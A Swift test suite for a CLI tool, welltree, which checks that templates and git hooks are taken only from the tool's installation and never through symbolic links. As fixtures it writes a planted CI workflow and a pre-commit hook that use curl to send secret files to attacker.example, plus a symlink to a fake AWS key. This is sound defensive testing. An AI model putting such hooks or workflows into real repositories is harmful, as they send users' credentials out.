import Foundation
import Testing

/// Where `welltree` finds what it ships (the workspace template, the client hooks): only in its
/// own installation, whichever directory it is run from and however it is called, and never
/// through a symbolic link, so a repository being worked on cannot slip files into `init` or
/// `hooks install`.
@Suite("the installation: template and hooks")
struct InstallationTests {
    /// The source tree's shipped directories, copied into fake installations.
    static let sourceRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent()

    /// `<prefix>/bin/welltree` (a hard link to the built binary, so the kernel reports that path
    /// as the executable) with the source tree's template and hooks in `<prefix>/share/welltree`.
    static func install(into prefix: String) throws {
        let files = FileManager.default
        try files.createDirectory(atPath: prefix + "/bin", withIntermediateDirectories: true)
        try files.createDirectory(atPath: prefix + "/share/welltree", withIntermediateDirectories: true)
        try files.linkItem(atPath: URL(fileURLWithPath: Run.welltree).resolvingSymlinksInPath().path, toPath: prefix + "/bin/welltree")
        for name in ["workspace-template", "hooks"] {
            try files.copyItem(atPath: sourceRoot.appendingPathComponent(name).path, toPath: prefix + "/share/welltree/" + name)
        }
    }

    /// Runs `welltree` by name, as a shell does, with `path` as the whole PATH.
    static func welltreeByName(
        _ arguments: [String], in directory: String, path: String, sandbox: Sandbox, environment: [String: String] = [:]
    ) throws -> RunResult {
        var env = sandbox.environment
        env["PATH"] = path
        for (key, value) in environment { env[key] = value }
        return try Run.program("welltree", arguments, in: directory, environment: env)
    }

    /// The attack: a clone whose author planted `workspace-template/` with a symbolic link to the
    /// reviewer's secrets and a CI workflow of their own. The reviewer reruns `welltree init`
    /// from inside it (as the README says to, for a newer framework lens) with `welltree` found
    /// on PATH; nothing of the planted template may be committed.
    @Test func initRunByNameIgnoresATemplatePlantedInTheRepository() throws {
        let sandbox = try Sandbox()
        let secret = sandbox.home + "/secrets.txt"
        try "aws_secret_access_key = TOPSECRET-0123456789\n".write(toFile: secret, atomically: true, encoding: .utf8)
        let planted = sandbox.repo + "/workspace-template"
        try FileManager.default.createDirectory(atPath: planted + "/.github/workflows", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: sandbox.repo + "/welltree.json", toPath: planted + "/welltree.json")
        try FileManager.default.createSymbolicLink(atPath: planted + "/NOTES.md", withDestinationPath: secret)
        try "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d @NOTES.md https://attacker.example\n"
            .write(toFile: planted + "/.github/workflows/steal.yml", atomically: true, encoding: .utf8)
        try #require(try sandbox.git(["add", "workspace-template"]).status == 0)
        try #require(try sandbox.git(["commit", "-qm", "Add a template"]).status == 0)
        let before = try #require(try sandbox.commit())

        let bin = sandbox.root + "/bin"
        try FileManager.default.createDirectory(atPath: bin, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: bin + "/welltree", withDestinationPath: Run.welltree)
        let result = try Self.welltreeByName(["init"], in: sandbox.repo, path: bin + ":/usr/bin:/bin", sandbox: sandbox)
        #expect(result.status == 0, "\(result)")
        #expect(result.stdout.contains("is up to date"), "\(result)")
        #expect(try sandbox.commit() == before, "init committed something")
        let tree = try sandbox.git(["ls-tree", "-r", "--name-only", "HEAD"]).stdout.split(separator: "\n")
        #expect(!tree.contains("NOTES.md"))
        #expect(!tree.contains(".github/workflows/steal.yml"))
        #expect(!(try sandbox.git(["log", "--all", "-p"]).stdout.contains("TOPSECRET")))
    }

    /// Unpacked anywhere, `bin/welltree` called by name (also through a symbolic link on PATH,
    /// as /usr/local/bin/welltree -> /opt/welltree/bin/welltree) lays down its own template, from
    /// any directory.
    @Test func initRunByNameFindsTheInstalledTemplate() throws {
        let sandbox = try Sandbox(initialise: false)
        let prefix = sandbox.root + "/opt/welltree"
        try Self.install(into: prefix)
        try "Installed copy.\n".write(toFile: prefix + "/share/welltree/workspace-template/INSTALLED.md", atomically: true, encoding: .utf8)
        let links = sandbox.root + "/usr-local-bin"
        try FileManager.default.createDirectory(atPath: links, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: links + "/welltree", withDestinationPath: prefix + "/bin/welltree")
        let elsewhere = sandbox.root + "/elsewhere"
        try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)

        for (path, name) in [(prefix + "/bin", "direct"), (links, "linked")] {
            let result = try Self.welltreeByName(
                ["init", sandbox.root + "/" + name], in: elsewhere, path: path + ":/usr/bin:/bin", sandbox: sandbox)
            #expect(result.status == 0, "\(result)")
            let tree = try sandbox.git(["ls-tree", "-r", "--name-only", "HEAD"], in: sandbox.root + "/" + name).stdout
            #expect(tree.contains("INSTALLED.md"), "\(name): \(tree)")
            #expect(tree.contains("lenses/wellarchitected/versions/1.0.json"))
        }
    }

    /// A symbolic link inside the installed template is refused, naming it, and nothing is
    /// written: the template's files are never read through links.
    @Test func aSymbolicLinkInTheTemplateIsRefused() throws {
        let sandbox = try Sandbox(initialise: false)
        let prefix = sandbox.root + "/prefix"
        try Self.install(into: prefix)
        let secret = sandbox.home + "/secrets.txt"
        try "TOPSECRET\n".write(toFile: secret, atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(
            atPath: prefix + "/share/welltree/workspace-template/NOTES.md", withDestinationPath: secret)
        let result = try Self.welltreeByName(["init", "reviews"], in: sandbox.root, path: prefix + "/bin:/usr/bin:/bin", sandbox: sandbox)
        #expect(result.status == 2, "\(result)")
        #expect(result.stderr.contains("NOTES.md"), "\(result)")
        #expect(result.stderr.contains("symbolic link"), "\(result)")
        #expect(!FileManager.default.fileExists(atPath: sandbox.root + "/reviews"), "init wrote a repository before reading its template")

        // The same through WELLTREE_TEMPLATE, and a directory that is no template is named.
        let template = sandbox.root + "/template"
        try FileManager.default.copyItem(atPath: prefix + "/share/welltree/workspace-template", toPath: template)
        let viaVariable = try Self.welltreeByName(
            ["init", "reviews"], in: sandbox.root, path: prefix + "/bin:/usr/bin:/bin", sandbox: sandbox,
            environment: ["WELLTREE_TEMPLATE": template])
        #expect(viaVariable.status == 2 && viaVariable.stderr.contains("symbolic link"), "\(viaVariable)")
        let notATemplate = try Self.welltreeByName(
            ["init", "reviews"], in: sandbox.root, path: prefix + "/bin:/usr/bin:/bin", sandbox: sandbox,
            environment: ["WELLTREE_TEMPLATE": sandbox.home])
        #expect(notATemplate.status == 2 && notATemplate.stderr.contains("WELLTREE_TEMPLATE"), "\(notATemplate)")
        #expect(!FileManager.default.fileExists(atPath: sandbox.root + "/reviews"))
    }

    /// `hooks install` copies the pre-commit hook shipped in the installation, not one a clone
    /// carries in a `hooks/` directory of its own, and refuses a shipped hook that is a link.
    @Test func hooksComeFromTheInstallationAndAreNeverLinks() throws {
        let sandbox = try Sandbox()
        let prefix = sandbox.root + "/prefix"
        try Self.install(into: prefix)
        try FileManager.default.createDirectory(atPath: sandbox.repo + "/hooks", withIntermediateDirectories: true)
        try "#!/bin/sh\n# Welltree\ncurl -d @$HOME/secrets.txt https://attacker.example\n"
            .write(toFile: sandbox.repo + "/hooks/pre-commit", atomically: true, encoding: .utf8)
        let path = prefix + "/bin:/usr/bin:/bin"
        let installed = try Self.welltreeByName(["hooks", "install"], in: sandbox.repo, path: path, sandbox: sandbox)
        #expect(installed.status == 0, "\(installed)")
        let hook = try String(contentsOfFile: sandbox.repo + "/.git/hooks/pre-commit", encoding: .utf8)
        #expect(hook == (try String(contentsOfFile: prefix + "/share/welltree/hooks/pre-commit", encoding: .utf8)))
        #expect(try sandbox.git(["config", "welltree.program"]).stdout == prefix + "/bin/welltree\n")

        let shipped = prefix + "/share/welltree/hooks/pre-commit"
        try FileManager.default.removeItem(atPath: shipped)
        try FileManager.default.createSymbolicLink(atPath: shipped, withDestinationPath: sandbox.repo + "/hooks/pre-commit")
        let refused = try Self.welltreeByName(["hooks", "install", "--force"], in: sandbox.repo, path: path, sandbox: sandbox)
        #expect(refused.status == 2, "\(refused)")
        #expect(refused.stderr.contains("pre-commit") && refused.stderr.contains("symbolic link"), "\(refused)")
        #expect(try String(contentsOfFile: sandbox.repo + "/.git/hooks/pre-commit", encoding: .utf8) == hook)
    }

    /// A binary built by plain `swift build` cannot know its commit and says so; its version is
    /// the one in the file VERSION, which release archives and the GitHub Action are named by.
    @Test func versionIsTheSourcesAndAPlainBuildClaimsNoCommit() throws {
        let version = try String(contentsOfFile: Self.sourceRoot.appendingPathComponent("VERSION").path, encoding: .utf8)
            .trimmingCharacters(in: .whitespacesAndNewlines)
        let printed = try Run.program(Run.welltree, ["--version"])
        #expect(printed.stdout == "\(version) (unknown commit)\n", "\(printed)")
    }
}
